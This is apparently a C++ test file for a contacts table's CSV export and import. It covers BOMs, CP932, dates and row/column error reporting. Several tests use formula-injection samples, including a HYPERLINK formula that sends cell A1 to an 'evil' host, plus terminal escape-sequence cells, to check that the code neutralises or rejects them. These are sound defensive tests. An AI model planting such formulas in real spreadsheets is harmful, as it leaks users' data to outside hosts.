#include <doctest/doctest.h>

#include "contacts/contacts.h"
#include "contacts/contacts_csv.h"
#include "contacts_fixture.h"
#include "core/encoding.h"
#include "core/i18n.h"
#include "helpers.h"

using namespace mamori;
using mamori::testing::formatted;
using mamori::testing::kContactTable;

TEST_SUITE("contacts_csv") {
  TEST_CASE("export writes UTF-8 with a BOM, CRLF and Japanese column names") {
    std::vector<Diagnostic> out;
    const std::string csv = contacts_to_csv(parse_contacts(kContactTable, out));
    CHECK(csv.starts_with("\xEF\xBB\xBF最終確認日,2025-05-01\r\nID,区分,相談内容,相談先,URL,電話番号,メール,備考\r\n"));
    CHECK(csv.find("\r\naichi-general,県内の窓口,経済安全保障全般,愛知県 "
                   "経済産業局,https://www.pref.aichi.jp/soshiki/san-kagi/,"
                   "052-954-6370,,\r\n") != std::string::npos);
  }

  TEST_CASE("export then import gives the same table, also through CP932") {
    std::vector<Diagnostic> out;
    const ContactTable table = parse_contacts(kContactTable, out);
    const std::string csv = contacts_to_csv(table);
    const ContactTable back = contacts_from_csv(csv, out);
    CHECK(formatted(out).empty());
    CHECK(contacts_to_toml(back) == contacts_to_toml(table));
    const auto sjis = encode_cp932(csv.substr(3));  // Excel's "CSV (コンマ区切り)" has no BOM
    REQUIRE(sjis.has_value());
    CHECK(contacts_to_toml(contacts_from_csv(*sjis, out)) == contacts_to_toml(table));
    CHECK(out.empty());
  }

  TEST_CASE("export neutralises cells a spreadsheet would run as formulas") {
    std::vector<Diagnostic> out;
    ContactTable table = parse_contacts(kContactTable, out);
    REQUIRE(out.empty());
    table.contacts[0].note = "=HYPERLINK(\"http://evil/?\"&A1,\"詳細\")";
    table.contacts[0].topic = "+経済安全保障";
    table.contacts[1].organization = "@中部公安調査局";
    table.contacts[1].note = "-平日のみ";
    table.contacts[1].topic = "'=引用符つき";
    table.contacts[1].group = "'そのまま";
    const std::string csv = contacts_to_csv(table);
    CHECK(csv.find("県内の窓口,'+経済安全保障,愛知県 経済産業局,https://www.pref.aichi.jp/soshiki/san-kagi/,"
                   "052-954-6370,,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"詳細\"\")\"\r\n") != std::string::npos);
    CHECK(csv.find("'そのまま,''=引用符つき,'@中部公安調査局,https://www.moj.go.jp/psia/kouan_mail_keizaianpo.html,,,"
                   "'-平日のみ\r\n") != std::string::npos);
    // …and import takes the apostrophes off again: the round trip is exact.
    const ContactTable back = contacts_from_csv(csv, out);
    CHECK(formatted(out).empty());
    CHECK(contacts_to_toml(back) == contacts_to_toml(table));
  }

  TEST_CASE("neutralising and its reverse") {
    CHECK(neutralize_cell("=1+1") == "'=1+1");
    CHECK(neutralize_cell("\t=1") == "'\t=1");
    CHECK(neutralize_cell("'abc") == "'abc");
    CHECK(neutralize_cell("''") == "'''");
    CHECK(neutralize_cell("＝全角") == "＝全角");
    CHECK(neutralize_cell("052-954-6370") == "052-954-6370");
    for (const std::string v : {"=1+1", "'=1", "''", "'", "'abc", "abc", "-", "@", "''=x", "＋α"}) {
      CAPTURE(v);
      const auto back = unneutralize_cell(neutralize_cell(v));
      REQUIRE(back.has_value());
      CHECK(*back == v);
    }
  }

  TEST_CASE("import refuses cells that start like formulas, by row and column") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,2025-05-01\n"
        "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
        "県内,a,b,,03-1234-5678,,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"\n"
        "県内,c,  @SUM(1),,+81-52-954-6370,,-平日のみ\n"
        "県内,d,e,,03-1234-5678,,'-平日のみ\n",
        out);
    CHECK(formatted(out) ==
          std::vector<std::string>{
              "3:7: error: column G (備考): '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs "
              "as a formula: "
              "remove it, or write an apostrophe before it ('=…) to keep it as text, as mamori contacts export does",
              "4:3: error: column C (相談先): '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or "
              "write an apostrophe "
              "before it ('@…) to keep it as text, as mamori contacts export does",
              "4:5: error: column E (電話番号): '+81-52-954-6370' starts with '+', which Excel runs as a formula: "
              "remove it, or write an "
              "apostrophe before it ('+…) to keep it as text, as mamori contacts export does",
              "4:7: error: column G (備考): '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or "
              "write an "
              "apostrophe before it ('-…) to keep it as text, as mamori contacts export does"});
    // The refused 相談先 is not also reported missing (a tester's report).
  }

  // Found by attacking the binary: such a cell was written into contacts.toml, which the
  // next build then refused, and the change list printed it raw on the terminal.
  TEST_CASE("import refuses cells holding control characters") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,2025-05-01\n"
        "区分,相談内容,相談先,URL,電話番号,メール,備考\n"
        "県内,a,\"o\x1b[31mRED\",,03-1234-5678,,\"x\xc2\x85y\"\n",
        out);
    CHECK(formatted(out) == std::vector<std::string>{"3:3: error: column C (相談先): the cell holds a control "
                                                     "character (U+001B), which cannot be shown on a page: remove it",
                                                     "3:7: error: column G (備考): the cell holds a control character "
                                                     "(U+0085), which cannot be shown on a page: remove it"});
  }

  TEST_CASE("import reads Excel's date styles, any column order, and skips blank rows") {
    std::vector<Diagnostic> out;
    const ContactTable table = contacts_from_csv(
        "最終確認日,2026/4/1\n"
        "電話番号,相談先,相談内容,区分\n"
        ",,,\n"
        "03-5978-7509,IPA,サイバー,国の窓口\n",
        out);
    CHECK(formatted(out).empty());
    CHECK(table.reviewed == Date{2026, 4, 1});
    REQUIRE(table.contacts.size() == 1);
    CHECK(table.contacts[0].organization == "IPA");
    CHECK(parse_loose_date("2025年5月1日") == Date{2025, 5, 1});
    CHECK_FALSE(parse_loose_date("2025/2/30").has_value());
  }

  TEST_CASE("import problems are reported by CSV row and column") {
    std::vector<Diagnostic> out;
    contacts_from_csv(
        "最終確認日,いつか\n"
        "区分,相談内容,相談先,URL,電話,備考\n"
        "県内,a,b,javascript:x,03-1234-5678,\n"
        "県内,a,b,,,連絡はウェブで,余分\n",
        out);
    CHECK(formatted(out) == std::vector<std::string>{
                                "1:2: error: 'いつか' is not a date: write it like 2025-05-01",
                                "2:5: error: unknown column '電話' (did you mean '電話番号'?)",
                                "3:4: error: column D (URL): URL 'javascript:x' must start with https:// or http://",
                                "3: error: no phone number: give one, or say in 備考 (note) how to reach this window, "
                                "e.g. \"ウェブサイトのフォームから問い合わせます\"",
                                "4:7: error: row 4 has a value in column 7, which has no header",
                                "4:1: error: duplicate entry: 'a' at 'b' is already listed at row 3"});
  }

  // Regression (a tester's report): a value left out of a short row was reported without a column.
  TEST_CASE("a value a short row leaves out is missing in its header's column") {
    std::vector<Diagnostic> out;
    contacts_from_csv("最終確認日,2025-05-01\n区分,相談内容,相談先,URL,電話番号,メール,備考\n県内,a\n", out);
    CHECK(formatted(out) == std::vector<std::string>{"3:3: error: column C (相談先): missing 相談先 (organization)"});
  }

  // Found by a user test: a mistyped header column gave one more error for every row.
  TEST_CASE("a header without a required column is the only error, not one per row") {
    std::vector<Diagnostic> out;
    const ContactTable table = contacts_from_csv(
        "最終確認日,2025-05-01\n"
        "区分,相談内容,相談先名,電話番号\n"
        "県内,a,b,052-954-6370\n"
        "県内,c,d,052-954-6371\n",
        out);
    CHECK(formatted(out) == std::vector<std::string>{"2:3: error: unknown column '相談先名' (did you mean '相談先'?)",
                                                     "2: error: the header has no '相談先' column"});
    CHECK(table.contacts.empty());
  }
}
